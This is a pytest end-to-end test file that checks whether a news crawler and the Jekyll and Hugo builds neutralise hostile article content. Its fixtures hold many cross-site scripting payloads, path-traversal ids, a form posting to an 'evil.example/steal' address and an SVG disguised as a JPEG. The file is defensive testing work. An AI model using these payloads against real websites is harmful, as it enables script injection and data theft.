"""End to end: a newspaper whose every field is hostile builds safely with Jekyll and Hugo.

The fixture site's titles, authors and sources carry YAML and Markdown
specials, very long strings, emoji and bidi controls; its bodies carry
scripts, handlers, frames, forms, Liquid and Hugo shortcodes; its article
ids try to climb out of the archive. The crawl runs as a subprocess, then the
real ``jekyll build`` and ``hugo`` build the result.
"""

from __future__ import annotations

import html
import io
import json
import os
import re
import shutil
import subprocess
import uuid
from pathlib import Path

import pytest
import yaml
from PIL import Image

from newscrawl.demo.server import serve
from tests.e2e.browser_probe import SENTINEL, probe_folder
from tests.e2e.sitegen import FixtureSite, story
from tests.helpers import need_chromium, need_tool, read_post, run_cli

pytestmark = pytest.mark.e2e

SLUG = "ceshiribao"
TOKEN = uuid.uuid4().hex[:10]  # names the files an escaping id would create

TITLES = [
    '他说："改革不停步"：#1 号文件 & 重点 | 结果 > 预期!',
    "- 以短横线开头的标题：看起来像列表项",
    "* 以星号开头的标题 *强调* 与 **加粗**",
    "& 以和号开头 &amp; 实体 &lt;b&gt; 不是标签",
    "! 以感叹号开头的标题 ![图](x.png)",
    "| 以竖线开头 | 像表格 |",
    "> 以大于号开头的标题，像引用",
    "标题里有\t制表符\t和 # 井号",
    "超长标题" + "很长" * 150 + "结尾",
    "🎉 庆祝发射成功 🚀 点赞 👍🏽 家庭 👨‍👩‍👧",
    "双向控制符\u202e文字倒序\u202c测试标题",
    "模板语法 {{ site.title }} 与 {% include x %} 出现在标题里",
    "'单引号' 与 `反引号` @提及 %百分号 ~波浪 null: true",
]
AUTHORS = ['"张三"', "李四: 王五", "赵六 #2", "- 钱七", "孙八 & 周九", "吴十!", "郑一 | 冯二",
           "陈三 >", "楚四\t卫五", "长" * 120, "蒋六🎉", "沈\u202e七", "韩八 {{ x }}"]
SOURCES = ['"人民日报"', "新华社: 北京", "# 江西日报", "- 光明日报", "* 经济日报", "工人日报 & 农民日报",
           "! 中国青年报", "| 法治日报", "> 科技日报", "中国\t日报", "源" * 120, "🎉 文汇报", "解\u202e放日报"]

LITERAL_PARAGRAPHS = [
    "Liquid 变量原样显示：{{ site.title }} 以及 {{ page.content }} 都不应被替换。",
    "Liquid 标签原样显示：{% include x %} 和 {% assign a = 1 %} 不应执行。",
    "未闭合的原样块：{% raw %} 之后的文字也应正常显示，构建不能失败。",
    "多余的结束标签：{% endraw %} 出现在正文中同样应当原样显示。",
    "Hugo 短代码原样显示：{{< youtube x >}} 以及 {{% x %}} 都不应被展开。",
    "文字中提到 <script>alert(1)</script> 这样的字样，应当作为文字显示给读者。",
]
HOSTILE_MARKUP = """<p>配图说明文字，图片加载失败时不应执行脚本。<img src="http://paper.example/p.jpg" onerror="alert('e1')" alt="配图"></p>
    <script>alert('e2');document.write('pwned')</script>
    <p>请点击<a href="javascript:alert('e3')">这里</a>或<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">这里</a>查看详情内容。</p>
    <iframe src="http://evil.example/frame.html"></iframe>
    <form action="http://evil.example/steal"><input name="q" value="x"><button>提交</button></form>
    <svg onload="alert('e6')"><circle r="1"/></svg>
    <p onclick="alert('e4')" style="background:url(javascript:alert('e5'))">带有事件处理器的段落，文字本身应当保留下来给读者阅读。</p>
    <object data="http://evil.example/movie.swf"></object><embed src="http://evil.example/e.swf">"""
# Cases that set window.__hostileRan and raise an alert if they ever run (the browser check reads it).
SENTINEL_MARKUP = f"""<p>更多<a href="javascript:{SENTINEL}">链接</a>、<a href="JaVaScRiPt:{SENTINEL}">大小写链接</a>、
    <a href="&#106;avascript:{SENTINEL}">实体链接</a>与<a href="data:text/html,&lt;script&gt;{SENTINEL}&lt;/script&gt;">数据链接</a>。</p>
    <details open ontoggle="{SENTINEL}"><summary>摘要</summary>展开后的说明文字。</details>
    <img src="/missing.png" onerror="{SENTINEL}" onload="{SENTINEL}" alt="缺失的图">
    <a href="#top" onmouseover="{SENTINEL}" onfocus="{SENTINEL}" autofocus>悬停即触发的链接</a>
    <input autofocus onfocus="{SENTINEL}"><video><source onerror="{SENTINEL}"></video>
    <svg><a xlink:href="javascript:{SENTINEL}"><text x="1" y="9">矢量链接</text></a>
    <animate onbegin="{SENTINEL}" attributeName="x" dur="1s"/></svg>
    <math><maction actiontype="statusline" xlink:href="javascript:{SENTINEL}">数学链接</maction></math>
    <base href="javascript:{SENTINEL}//">
    <iframe srcdoc="&lt;script&gt;parent.{SENTINEL}&lt;/script&gt;"></iframe>
    <link rel="stylesheet" href="javascript:{SENTINEL}"><style>@import "javascript:{SENTINEL}";</style>"""
# Pictures: SVG bytes served as a JPEG with a handler, a caption carrying markup and a script, addresses
# that are scripts, and one real picture (which the archive keeps and shows).
PICTURE_MARKUP = f"""<figure><img src="/pic/svg.jpg" onerror="{SENTINEL}" alt="矢量图"><figcaption>图注：<b
    onmouseover="{SENTINEL}">说明文字</b><script>{SENTINEL}</script><img src="x" onerror="{SENTINEL}"></figcaption></figure>
    <p><img src="javascript:{SENTINEL}" alt="脚本地址"><img data-src="javascript:{SENTINEL}" src="/pic/ok.png"
    onload="{SENTINEL}" alt="正常图片"></p><p style="text-align:center">图为正常的配图</p>"""
PICTURE_FILES = {"pic/svg.jpg": ("image/jpeg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                                               b"<script>alert(2)</script></svg>")}
FORBIDDEN = ["<script", "onerror", "onclick", "onload", "javascript:", "data:text/html", "<iframe",
             "<object", "<embed", "<form", "evil.example", "pwned"]
ESCAPING_IDS = [
    f"../../../../../../../../../../escape-{TOKEN}",
    f"%2e%2e%2f%2e%2e%2f%2e%2e%2fescape2-{TOKEN}",
    f"..%2F..%2F..%2Fescape3-{TOKEN}",
    "x" * 400,
    f"/etc/escape4-{TOKEN}",
]


def expected_title(title: str) -> str:
    """Return the title as a post keeps it: whitespace runs (tabs) become one space."""
    return re.sub(r"\s+", " ", title).strip()


def hostile_site(root: Path) -> FixtureSite:
    """Return the fixture site with one article per hostile title, all written."""
    site = FixtureSite(root, per_page=6)
    for n, title in enumerate(TITLES):
        query = f"?id={ESCAPING_IDS[n]}" if n < len(ESCAPING_IDS) else f"?id=h{n}"
        page = f"news/h{n}.html" if n != 6 else "news/" + "n" * 200 + ".html"
        site.add_article(title, story(n) + LITERAL_PARAGRAPHS, published=f"2024-05-{n + 1:02d} 09:30",
                         page=page, query=query, author=AUTHORS[n], source=SOURCES[n],
                         raw_body=PICTURE_MARKUP + HOSTILE_MARKUP + SENTINEL_MARKUP)
    site.write()
    add_files(site.root, {**PICTURE_FILES, "pic/ok.png": ("image/png", ok_png())})
    return site


def ok_png() -> bytes:
    """Return a real 32×24 PNG made with Pillow."""
    buffer = io.BytesIO()
    Image.new("RGB", (32, 24), (0, 120, 200)).save(buffer, "PNG")
    return buffer.getvalue()


def add_files(root: Path, files: dict[str, tuple[str, bytes]]) -> None:
    """Write ``files`` (path -> Content-Type, bytes) into the served folder, with their types."""
    headers = json.loads((root / "_headers.json").read_text(encoding="utf-8"))
    for path, (kind, data) in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
        headers[path] = kind
    (root / "_headers.json").write_text(json.dumps(headers, indent=1), encoding="utf-8")


def crawl_hostile(tmp_path: Path, fmt: str) -> tuple[Path, FixtureSite, list[str]]:
    """Crawl the hostile site into a fresh archive; return it, the site and the files before."""
    site = hostile_site(tmp_path / "site")
    profiles = tmp_path / "profiles"
    site.profile(profiles, id_pattern=r"[?&]id=([^&#]+)",
                 selectors={"author": "span.author", "source": "span.source"})
    out = tmp_path / "nested" / "deeper" / "archive"
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    before = all_files(tmp_path) | {"posts.jsonl"}
    with serve(site.root) as server:
        result = run_cli("crawl", SLUG, "--profiles-dir", str(profiles), "--out", str(out), "--format", fmt,
                         "--base-url", "//news.example.org", "-s", f"NEWSCRAWL_BASE_URL_OVERRIDE={server.base_url}",
                         "-s", "AUTOTHROTTLE_ENABLED=False", "--jsonl", str(tmp_path / "posts.jsonl"),
                         cwd=workdir)
    assert result.returncode == 0, result.stderr[-3000:]
    assert f"{len(TITLES)} created" in result.stderr, result.stderr[-3000:]
    return out, site, before


def all_files(folder: Path) -> set[str]:
    """Return every file below ``folder``, relative to it."""
    return {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file() or p.is_symlink()}


def assert_nothing_outside(tmp_path: Path, out: Path, before: set[str]) -> None:
    """Assert the crawl wrote files only inside ``out``, and none named after an escaping id."""
    archive = str(out.relative_to(tmp_path))
    written = {f for f in all_files(tmp_path) - before if not f.startswith(archive + os.sep)}
    assert written == set(), written
    for folder in [out, *out.parents]:
        strays = [p for p in folder.iterdir() if TOKEN in p.name] if os.access(folder, os.R_OK) else []
        assert strays == [], strays


def posts_by_title(posts_dir: Path) -> dict[str, tuple[Path, dict, str]]:
    """Return every post keyed by its front matter title."""
    found = {}
    for path in sorted(posts_dir.glob("*.md")):
        front, body = read_post(path)
        found[front["title"]] = (path, front, body)
    return found


def check_posts(posts_dir: Path) -> dict[str, tuple[Path, dict, str]]:
    """Assert every post's name is safe, its front matter parses and its body is inert."""
    posts = posts_by_title(posts_dir)
    assert len(posts) == len(TITLES)
    for title, (path, front, body) in posts.items():
        assert re.fullmatch(r"2024-05-\d\d-[A-Za-z0-9._-]+\.md", path.name), path.name
        assert ".." not in path.name and len(path.name) <= 120, path.name
        assert str(front["date"]).startswith(path.name[:10]), (path.name, front["date"])
        for key in ("author", "source"):
            value = front.get(key)
            assert value is None or isinstance(value, (str, list)), (key, value)
        for word in FORBIDDEN:
            assert word not in body.lower(), (path.name, word)
    return posts


def visible_text(page: str) -> str:
    """Return a built page's text as a reader sees it (tags dropped, entities decoded)."""
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


def check_built_site(built: Path, pages: dict[str, Path], posts: dict) -> None:
    """Assert each post page exists, shows the literal texts, and no article code reached the site."""
    for title, page in pages.items():
        assert page.is_file(), (title, page, sorted(p.name for p in page.parent.parent.rglob("*"))[:20])
        text = page.read_text(encoding="utf-8")
        seen = re.sub(r"\s+", " ", visible_text(text))
        assert title in seen, title
        for paragraph in LITERAL_PARAGRAPHS:
            assert paragraph in seen, (title, paragraph)
        assert "带有事件处理器的段落，文字本身应当保留下来给读者阅读。" in seen
        assert "图注：说明文字" in seen and "图为正常的配图" in seen
        _, front, _ = posts[title]
        for key in ("author", "source"):
            values = front.get(key)
            for value in [values] if isinstance(values, str) else values or []:
                assert re.sub(r"\s+", " ", value) in seen, (title, key, value)
    for page in built.rglob("*"):
        if page.suffix in (".html", ".xml", ".json", ".js") and page.is_file():
            text = page.read_text(encoding="utf-8", errors="replace").lower()
            for word in FORBIDDEN:
                assert word not in text, (page, word)


def build(cmd: list[str], cwd: Path) -> None:
    """Run a site generator, skipping when it is not installed; assert it succeeds."""
    need_tool(cmd[0])
    done = subprocess.run(cmd, cwd=cwd, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, (done.stdout[-3000:], done.stderr[-3000:])


@pytest.fixture(scope="module", params=[pytest.param("jekyll", marks=pytest.mark.jekyll),
                                        pytest.param("hugo", marks=pytest.mark.hugo)])
def crawled(request, tmp_path_factory):
    """Return (format, tmp folder, archive, files before the crawl) for each format."""
    tmp = tmp_path_factory.mktemp(f"hostile-{request.param}")
    out, _, before = crawl_hostile(tmp, request.param)
    return request.param, tmp, out, before


def posts_folder(fmt: str, out: Path) -> Path:
    """Return the archive's posts folder for ``fmt``."""
    return out / ("_posts" if fmt == "jekyll" else "content/posts")


def test_no_file_is_written_outside_the_archive(crawled):
    fmt, tmp, out, before = crawled
    assert_nothing_outside(tmp, out, before)
    escaped = sorted(p.name for p in posts_folder(fmt, out).iterdir())
    assert len(escaped) == len(TITLES), escaped


def test_every_post_is_safe_and_parses(crawled):
    fmt, _, out, _ = crawled
    check_posts(posts_folder(fmt, out))


def test_only_the_real_picture_enters_the_archive(crawled):
    fmt, _, out, _ = crawled
    images = out / ("assets/images" if fmt == "jekyll" else "static/images")
    kept = [p.read_bytes() for p in images.rglob("*") if p.is_file()]
    assert kept == [ok_png()]
    for post in posts_folder(fmt, out).glob("*.md"):
        body = read_post(post)[1]
        # the SVG one and HOSTILE_MARKUP's missing picture link the paper's copies
        assert body.count("<figure>") == 3 and body.count("图注：说明文字") == 1, post


def test_front_matter_parses_back_to_the_exact_values(crawled):
    """yaml.safe_load of each post's front matter gives the very title, author and source crawled."""
    fmt, tmp, out, _ = crawled
    records = [json.loads(line) for line in (tmp / "posts.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(records) == len(TITLES)
    for record in records:
        head = (out / record["path"]).read_text(encoding="utf-8")[4:].split("\n---\n", 1)[0]
        front = yaml.safe_load(head)
        assert front["title"] == record["title"]
        assert front.get("author", []) == record["author"], record["author"]  # a list in both
        assert front.get("source") == record["source"], record["source"]


@pytest.mark.parametrize("title", TITLES, ids=[f"title{n}" for n in range(len(TITLES))])
def test_post_title_is_the_page_headline_exactly(crawled, title):
    """The post's title is the headline as a reader sees it (entities decoded once, ZWJ kept)."""
    fmt, tmp, out, _ = crawled
    records = [json.loads(line) for line in (tmp / "posts.jsonl").read_text(encoding="utf-8").splitlines()]
    n = TITLES.index(title)
    [record] = [r for r in records if r["published"].startswith(f"2024-05-{n + 1:02d}")]
    front, _ = read_post(out / record["path"])
    assert front["title"] == expected_title(title)


def build_site(fmt: str, archive: Path, site: Path) -> tuple[Path, dict[str, Path], dict]:
    """Copy ``archive`` to ``site`` and build it; return (built folder, {title: post page}, posts)."""
    shutil.copytree(archive, site)
    posts = check_posts(posts_folder(fmt, site))
    if fmt == "jekyll":
        build(["jekyll", "build", "--quiet"], site)
        folder = site / "_site"
        pages = {title: folder / SLUG / "2024" / "05" / path.name[8:10] / (path.stem[11:] + ".html")
                 for title, (path, _, _) in posts.items()}
    else:
        build(["hugo", "--quiet"], site)
        folder = site / "public"
        pages = {title: folder / "posts" / "2024" / "05" / path.name[8:10] / path.stem[11:] / "index.html"
                 for title, (path, _, _) in posts.items()}
    return folder, pages, posts


@pytest.fixture(scope="module")
def built(crawled):
    """Return (format, built site folder, {title: post page}, posts) for each format."""
    fmt, tmp, out, _ = crawled
    return (fmt, *build_site(fmt, out, tmp / f"site-{fmt}"))


def test_site_builds_and_shows_the_literal_texts(built):
    _, folder, pages, posts = built
    check_built_site(folder, pages, posts)


@pytest.mark.chromium
def test_no_built_page_runs_a_script_in_chromium(built, crawled, capsys):
    """Every page of the built site, opened, clicked and hovered in Chromium, stays inert.

    The same probe on one of the crawled pages as the site served it (the raw
    hostile markup) must see scripts, dialogs and the sentinel: the counts
    below can fail.
    """
    need_chromium()
    fmt, folder, pages, _ = built
    report = probe_folder(folder)
    control = probe_folder(crawled[1] / "site", ["news/h1.html"])
    with capsys.disabled():  # the counts belong in every test log, passing or not
        print(f"\n{report.line(f'browser check ({fmt}, built archive)')}")
        print(control.line(f"browser check ({fmt}, control: a raw hostile page)"))
    counts = report.counts()
    assert counts["pages"] >= len(pages) and set(pages.values()) <= {folder / v.path for v in report.visits}
    assert counts["clicks"] > counts["pages"] and counts["hovers"] > counts["pages"]
    for name in ("scripts", "dialogs", "errors", "hostile", "sentinel", "active"):
        offenders = {v.path: getattr(v, name) for v in report.visits if getattr(v, name)}
        assert counts[name] == 0, (name, offenders)
    missed = {name for name in ("scripts", "dialogs", "hostile", "sentinel", "active") if not control.counts()[name]}
    assert not missed, (missed, control.visits)
